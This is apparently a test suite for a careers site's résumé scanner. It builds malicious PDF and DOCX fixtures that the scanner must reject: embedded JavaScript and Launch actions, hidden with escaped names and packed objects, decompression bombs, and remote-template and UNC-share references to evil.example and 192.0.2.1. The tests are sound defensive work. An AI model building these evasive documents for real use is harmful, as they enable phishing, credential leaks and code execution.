import { execFileSync } from "node:child_process";
import { mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import { afterAll, beforeAll, expect, test } from "vitest";
import { careerApplicationMessages as messages } from "../../app/content/career-application.ts";
import { findResumeFault } from "../../app/features/submissions/career-applications/resume-content.ts";
import { browserPath } from "../../scripts/browser.ts";
import { createDatabase, query } from "../support/cluster.ts";
import { expectPage } from "../support/expectations.ts";
import { careerApplicationFields, careerApplicationForm } from "../support/factories/career-application.ts";
import {
  docx,
  docxReferring,
  pdf,
  pdfObjectStream,
  pdfOf,
  pdfStream,
  relationship,
} from "../support/factories/resume.ts";
import { note } from "../support/measurements.ts";
import { type Product, startProduct } from "../support/product.ts";

let folder: string;
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), "tidewheel-resumes-"));
});
afterAll(() => rm(folder, { recursive: true, force: true }));

async function faultOf(bytes: Buffer, extension: "pdf" | "docx") {
  const path = join(folder, "resume");
  await writeFile(path, bytes);
  return findResumeFault(path, extension);
}

const catalog = "<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>";
const pages = "<< /Type /Pages /Kids [] /Count 0 >>";
const script = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>";
const inPieces = (object: string, ...more: (string | Buffer)[]) => pdfOf([catalog, pages, object, ...more]);
const decompressionBombs = Array.from({ length: 60 }, () => pdfStream("/N 1 /First 4", Buffer.alloc(8 << 20, "0 0 ")));

const activePdfs: [string, Buffer][] = [
  ["a script", inPieces(script)],
  ["a script whose names are escaped", inPieces("<< /#53 /J#61vaScript /#4aS (x) >>")],
  ["a script whose action is in pieces", inPieces("<< /S 4 0 R /J#53 5 0 R >>", "/J#61v#61Script", "(x)")],
  ["a script that a rendition runs", inPieces("<< /S /Rendition /JS (x) >>")],
  ["a script by name", inPieces("<< /Names << /JavaScript << /Names [(x) 4 0 R] >> >> >>")],
  ["a script in packed objects", inPieces("null", pdfObjectStream(["<< /A 1 >>", script]))],
  ["a script in packed objects of no type", inPieces("null", pdfObjectStream([script], ""))],
  ["a script in the list of objects packed twice", inPieces("null", pdfObjectStream(["(", script, ")"]))],
  ["a script behind a comment", inPieces(`% endobj >> (\n${script}`)],
  ["a script behind a text that never ends", inPieces("(never ends", script)],
  [
    "a script in what looks like a page",
    inPieces(pdfStream("", `\n9 0 obj ${script} endobj`, false).toString("latin1")),
  ],
  ["a script without spaces", inPieces("<</S/JavaScript/JS<78>>>")],
  ["a script in the trailer", pdfOf([catalog, pages], `/Root << /OpenAction ${script} >>`)],
  ["a program to start", inPieces("<< /S /Launch /F (calc.exe) >>")],
  ["a program to start, escaped", inPieces("<< /S /#4caunch /Win << /F (calc.exe) >> >>")],
  ["a file within", inPieces("<< /EF << /F 4 0 R >> >>", pdfStream("/Type /EmbeddedFile", "MZ"))],
  ["files within, by name", inPieces("<< /Names << /Embedded#46iles 4 0 R >> >>")],
  ["a form that is a program", inPieces("<< /AcroForm << /XFA 4 0 R >> >>")],
];

const unreadablePdfs: [string, Buffer][] = [
  [
    "packed objects in another packing",
    inPieces("null", pdfStream("/Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode]", "30", false)),
  ],
  [
    "packed objects that are broken",
    inPieces("null", pdfStream("/N 1 /First 4 /Filter /FlateDecode", "garbage", false)),
  ],
  ["packed objects with a place said twice", inPieces("null", pdfStream("/N 1 /First 4 /First 9", "0 0 null"))],
  ["packed objects whose places are elsewhere", inPieces("null", pdfStream("/N 4 0 R /First 5 0 R", "0 0 null"))],
  ["a bomb of packed objects", inPieces("null", pdfStream("/N 1 /First 4", Buffer.alloc(400 << 20)))],
  ["many bombs of packed objects", inPieces("null", ...decompressionBombs)],
];

const embedding = { name: "word/embeddings/oleObject1.bin", content: Buffer.from("x") };
const unc = "\\\\192.0.2.1\\share\\a.dotm";
const badDocuments: [string, Buffer][] = [
  ["a template elsewhere", docxReferring(relationship("attachedTemplate", "https://evil.example/a.dotm"))],
  [
    "a template elsewhere, escaped",
    docxReferring(relationship("attached&#84;emplate", "http&#x3a;//evil.example/a.dotm", "&#69;xternal")),
  ],
  ["a template on a share", docxReferring(relationship("attachedTemplate", unc))],
  ["a template on a share by file:", docxReferring(relationship("attachedTemplate", "file:////192.0.2.1/a.dotm"))],
  [
    "a template on a share by file: and a host",
    docxReferring(relationship("attachedTemplate", "file://192.0.2.1/a.dotm")),
  ],
  [
    "a template in UTF-16",
    docx([
      {
        name: "word/_rels/settings.xml.rels",
        content: Buffer.from(
          `<Relationships>${relationship("attachedTemplate", "http://evil.example")}</Relationships>`,
          "utf16le",
        ),
      },
    ]),
  ],
  [
    "a type within another attribute",
    docxReferring(
      `<Relationship Id=' Type="x/hyperlink" ' Type="x/attachedTemplate" Target="http://evil.example" TargetMode="External"/>`,
    ),
  ],
  [
    "a name of its own",
    docxReferring(`<p:Relationship Type='x/attachedTemplate' Target='http://evil.example' TargetMode='External'/>`),
  ],
  [
    "a linked object",
    docxReferring(relationship("oleObject", "https://evil.example/a.xls"), "word/_rels/document.xml.rels"),
  ],
  [
    "an object within",
    docxReferring(relationship("oleObject", "embeddings/oleObject1.bin", ""), "word/_rels/document.xml.rels"),
  ],
  ["an object's part", docx([embedding])],
  ["a document as an object", docx([{ ...embedding, name: "word/embeddings/Document.docx" }])],
  ["a table with macros as an object", docx([{ ...embedding, name: "word/embeddings/Table.xlsm" }])],
  ["a control", docx([{ ...embedding, name: "word/activeX/activeX1.bin" }])],
  [
    "a frame elsewhere",
    docxReferring(relationship("frame", "https://evil.example/"), "word/_rels/webSettings.xml.rels"),
  ],
  [
    "another document",
    docxReferring(relationship("subDocument", "https://evil.example/a.docx"), "word/_rels/document.xml.rels"),
  ],
  ["a part in another format", docxReferring(relationship("aFChunk", "a.rtf", ""), "word/_rels/document.xml.rels")],
  ["a picture on a share", docxReferring(relationship("image", unc), "word/_rels/document.xml.rels")],
];

test("REVIEW-L6 a file with active content is rejected with a message on how to fix it", async () => {
  for (const [what, bytes] of activePdfs) expect(await faultOf(bytes, "pdf"), what).toBe("resumeActive");
  for (const [what, bytes] of unreadablePdfs) expect(await faultOf(bytes, "pdf"), what).toBe("resumeUnreadable");
  for (const [what, bytes] of badDocuments) expect(await faultOf(bytes, "docx"), what).toBe("resumeEmbedded");
  const entity = `<!DOCTYPE r [<!ENTITY e "External">]>${relationship("attachedTemplate", "http://evil.example", "&e;")}`;
  expect(await faultOf(docxReferring(entity), "docx")).toBe("resumeContent");
  const refused = activePdfs.length + unreadablePdfs.length + badDocuments.length + 1;
  note("L6", "résumés with scripts, programs, files or parts from elsewhere", `${refused} refused`);
});

const link = "https://example.com/HTML/JavaScript";
const resume = `<!doctype html><title>HTML/JavaScript/JS</title><h1>Noor Okafor</h1><p>HTML/CSS/JavaScript /JS /Launch /EmbeddedFile</p>
  <a href="${link}">Portfolio</a> <a href="mailto:noor@example.com">Mail</a><ul><li>Objective: obj 1 0 obj stream</ul>
  <form><input name="JS" value="JavaScript"></form><svg width="99" height="99"><circle r="40"/></svg>`;

const plainPdfs: [string, Buffer][] = [
  ["a small one", pdf("HTML/JavaScript /JS")],
  [
    "words about scripts",
    pdfOf([
      `<< /Title (HTML/JavaScript) /Keywords (a \\) /JS) /A <2f4a53> >>`,
      `% /JavaScript\n<< /A << /S /URI /URI (${link}/JS) >> >>`,
    ]),
  ],
  [
    "pages about scripts",
    pdfOf([
      catalog,
      pages,
      "<< /S /GoTo /D (page) >>",
      pdfStream("", "BT (a /JavaScript /JS) Tj /Launch ET"),
      pdfStream("", "BT (/JavaScript) Tj ET", false),
    ]),
  ],
  [
    "packed objects",
    pdfOf([
      catalog,
      pages,
      pdfObjectStream([`<< /A << /S /URI /URI (${link}) >> >>`, "<< /FT /Tx /T (JS) /V (/JavaScript) >>"]),
    ]),
  ],
  [
    "a form",
    pdfOf([
      "<< /Type /Catalog /AcroForm << /Fields [2 0 R] >> >>",
      "<< /FT /Btn /T (Send) /A << /S /SubmitForm /F (https://example.com) >> >>",
    ]),
  ],
];

const plainDocuments: [string, Buffer][] = [
  ["a small one", docx()],
  [
    "links",
    docxReferring(
      relationship("hyperlink", link) + relationship("hyperlink", "mailto:noor@example.com"),
      "word/_rels/document.xml.rels",
    ),
  ],
  [
    "Word's own template",
    docxReferring(
      relationship(
        "attachedTemplate",
        "file:///C:\\Users\\Noor\\AppData\\Roaming\\Microsoft\\Templates\\Modern%20resume.dotx",
      ),
    ),
  ],
  ["a template by name", docxReferring(relationship("attachedTemplate", "Normal.dotm"))],
  ["a template of a Mac", docxReferring(relationship("attachedTemplate", "file:///Users/noor/Library/Resume.dotx"))],
  [
    "a picture from the web",
    docxReferring(relationship("image", "https://example.com/in.png"), "word/_rels/document.xml.rels"),
  ],
  [
    "a chart",
    docxReferring(
      relationship("package", "../embeddings/Microsoft_Excel_Sheet.xlsx", ""),
      "word/charts/_rels/chart1.xml.rels",
      [{ name: "word/embeddings/Microsoft_Excel_Sheet.xlsx", content: Buffer.from("x") }],
    ),
  ],
  [
    "its own parts",
    docxReferring(
      relationship("styles", "styles.xml", "") + relationship("image", "media/a.png", "Internal"),
      "word/_rels/document.xml.rels",
    ),
  ],
];

test("REVIEW-L6 ordinary résumés are accepted, whatever they are about", async () => {
  for (const [what, bytes] of plainPdfs) expect(await faultOf(bytes, "pdf"), what).toBeUndefined();
  for (const [what, bytes] of plainDocuments) expect(await faultOf(bytes, "docx"), what).toBeUndefined();
  // A PDF that the browser prints.
  const [page, printed] = [join(folder, "resume.html"), join(folder, "resume.pdf")];
  await writeFile(page, resume);
  execFileSync(
    browserPath() ?? "",
    [
      "--headless",
      "--no-sandbox",
      "--disable-gpu",
      "--disable-background-networking",
      `--user-data-dir=${join(folder, "profile")}`,
      `--print-to-pdf=${printed}`,
      pathToFileURL(page).href,
    ],
    { stdio: "ignore" },
  );
  const bytes = await readFile(printed);
  expect(bytes.includes(link)).toBe(true);
  expect(await faultOf(bytes, "pdf")).toBe(undefined);
});

test("REVIEW-L6 scanning a file takes time linear in its size", async () => {
  const patterns: [string, (bytes: number) => Buffer, "pdf" | "docx"][] = [
    ["beginnings of objects", (bytes) => inPieces("1 0 obj ".repeat(bytes / 8)), "pdf"],
    ["beginnings of texts", (bytes) => inPieces("obj(".repeat(bytes / 4)), "pdf"],
    ["names", (bytes) => inPieces(`/${"#4a".repeat(bytes / 3)}`), "pdf"],
    ["brackets", (bytes) => inPieces("[<".repeat(bytes / 2)), "pdf"],
    [
      "packed objects at one place",
      (bytes) =>
        inPieces(
          "null",
          pdfStream(`/N ${bytes / 40} /First ${bytes / 10}`, "1 0 ".repeat(bytes / 40) + "[".repeat(bytes / 40)),
        ),
      "pdf",
    ],
    ["attributes", (bytes) => docxReferring(`<Relationship ${"a".repeat(bytes / 8)}`), "docx"],
    ["quotes", (bytes) => docxReferring(`<Relationship ${"a=' ".repeat(bytes / 32)}`), "docx"],
  ];
  for (const [what, make, extension] of patterns) {
    const times: number[] = [];
    for (const size of [2 ** 20, 2 ** 22]) {
      const bytes = make(size);
      const began = performance.now();
      await faultOf(bytes, extension);
      times.push(performance.now() - began);
    }
    const [small = 0, large = 0] = times;
    // Four times the size: quadratic time would be 16 times. A few milliseconds are noise.
    expect(large, what).toBeLessThan(10 * Math.max(small, 20));
  }
});

let product: Product;
afterAll(() => product?.stop());

test("REVIEW-L6 a rejected résumé leaves nothing behind, and the page says what to do", async () => {
  const url = await createDatabase();
  product = await startProduct({ env: { DATABASE_URL: url } });
  for (const [bytes, name, message] of [
    [inPieces("null", pdfObjectStream([script])), "cv.pdf", messages.resumeActive],
    [
      docxReferring(relationship("attachedTemplate", "https://evil.example/a.dotm")),
      "cv.docx",
      messages.resumeEmbedded,
    ],
  ] as const) {
    const form = careerApplicationForm(careerApplicationFields(), { bytes, name });
    const answer = await fetch(`${product.url}/careers`, { method: "POST", body: form, redirect: "manual" });
    await expectPage(answer, 422, message);
  }
  expect(await query(url, "select id from career_applications where submission_key not like 'sample-%'")).toEqual([]);
});
